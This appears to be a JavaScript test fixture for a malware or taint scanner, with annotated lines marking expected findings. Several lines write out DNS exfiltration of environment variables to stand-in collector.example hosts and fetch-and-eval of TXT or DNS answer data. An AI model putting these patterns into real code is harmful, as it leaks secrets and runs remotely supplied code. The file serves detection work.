// Domain names.
const dgram = require("dgram");
const dns = require("dns");
const DnsSocket = require("dns-socket");
const packet = require("dns-packet");

async function looked() {
  dns.lookup(process.env.T + ".dns.collector.example", () => null); //~ source(ENVIRONMENT) f1, sink(egress.dns) f1, finding(traced) f1, capability(DNS)
  dns.lookup("dns.collector.example", () => null); //~ ok
  dns.resolveTxt("dns.collector.example", (err, records) => eval(records[0])); //~ source(NETWORK) f2, sink(exec.code) f2, finding(traced) f2
  eval((await dns.promises.resolveTxt("dns.collector.example"))[0]); //~ source(NETWORK) f3, sink(exec.code) f3, finding(traced) f3
  dns.resolveTxt("dns.collector.example", (err, records) => eval(err)); //~ ok
}

async function resolver() {
  const own = new dns.Resolver(); //~ capability(DNS)
  own.setServers(["resolver.collector.example"]); //~ endpoint("resolver.collector.example")
  own.resolve4(process.env.T + ".collector.example", () => null); //~ source(ENVIRONMENT) f4, sink(egress.dns) f4, finding(traced) f4
  own.resolve4("collector.example", () => null); //~ ok
  new dns.Resolver().setServers(["127.0.0.1"]); //~ ok
}

function packets() {
  const socket = dgram.createSocket("udp4");
  socket.send(packet.encode({ questions: [{ name: process.env.T + ".collector.example" }] }), 53, "ns.collector.example"); //~ source(ENVIRONMENT) f5, sink(egress.socket) f5, finding(traced) f5
  socket.send(packet.encode({ questions: [{ name: "x" }] }), 53, "ns.collector.example"); //~ ok
  socket.on("message", (message) => { //~ source(NETWORK) f6
    eval(packet.decode(message).answers[0].data); //~ sink(exec.code) f6, finding(traced) f6
  });
  socket.send(packet.decode("x"), 53, "ns.collector.example"); //~ ok
}

function packetSocket() {
  const socket = new DnsSocket(); //~ capability(DNS)
  socket.query({ questions: [{ name: process.env.T + ".collector.example" }] }, 53, "ns2.collector.example"); //~ source(ENVIRONMENT) f7, sink(egress.dns) f7, finding(traced) f7, endpoint("ns2.collector.example")
  socket.query({ questions: [{ name: "x" }] }, 53, "ns2.collector.example"); //~ ok
  new (require("dns-socket"))().query({ questions: [] }, 53, "127.0.0.1"); //~ ok
}
